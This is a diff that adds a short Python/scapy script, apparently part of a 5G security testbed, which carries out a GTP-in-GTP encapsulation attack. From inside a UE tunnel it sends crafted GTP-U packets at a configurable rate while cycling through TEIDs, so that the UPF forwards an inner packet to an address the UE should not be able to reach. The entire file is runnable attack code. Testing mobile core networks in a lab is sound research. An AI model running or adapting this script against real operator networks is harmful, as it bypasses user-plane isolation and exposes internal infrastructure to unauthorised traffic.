@@ -0,0 +1,49 @@
+#!/usr/bin/env python3
+"""GTP-in-GTP encapsulation attack.
+
+Sends GTP-U packets from inside the UE tunnel so that the UPF receives a
+second GTP-U header inside the user plane payload and forwards the inner
+packet to an address the UE should not be able to reach.
+
+Settings come from the environment set by the backend launcher:
+TARGET_IP, PACKET_RATE, PAYLOAD_SIZE, DURATION, TEID_MIN and TEID_MAX.
+"""
+
+import os
+import time
+
+from scapy.all import ICMP, IP, UDP, Raw, send
+from scapy.contrib.gtp import GTP_U_Header
+
+TARGET_IP = os.environ.get("TARGET_IP", "10.42.0.64")
+PACKET_RATE = int(os.environ.get("PACKET_RATE", "100"))
+PAYLOAD_SIZE = int(os.environ.get("PAYLOAD_SIZE", "17"))
+DURATION = int(os.environ.get("DURATION", "0"))
+TEID_MIN = int(os.environ.get("TEID_MIN", "1"))
+TEID_MAX = int(os.environ.get("TEID_MAX", str(TEID_MIN)))
+INNER_DST = "10.45.0.1"
+INTERFACE = "uesimtun0"
+
+
+def build_packet(seq, teid):
+    inner = IP(dst=INNER_DST) / ICMP(id=0x5747, seq=seq & 0xFFFF) / Raw(b"E" * PAYLOAD_SIZE)
+    return IP(dst=TARGET_IP) / UDP(sport=2152, dport=2152) / GTP_U_Header(teid=teid) / inner
+
+
+def main():
+    interval = 1.0 / PACKET_RATE if PACKET_RATE > 0 else 0
+    deadline = time.time() + DURATION if DURATION > 0 else None
+    seq = 0
+    teid = TEID_MIN
+    while deadline is None or time.time() < deadline:
+        send(build_packet(seq, teid), iface=INTERFACE, verbose=False)
+        seq += 1
+        teid = TEID_MIN if teid >= TEID_MAX else teid + 1
+        if seq % 1000 == 0:
+            print("sent %d encapsulated packets" % seq, flush=True)
+        if interval:
+            time.sleep(interval)
+
+
+if __name__ == "__main__":
+    main()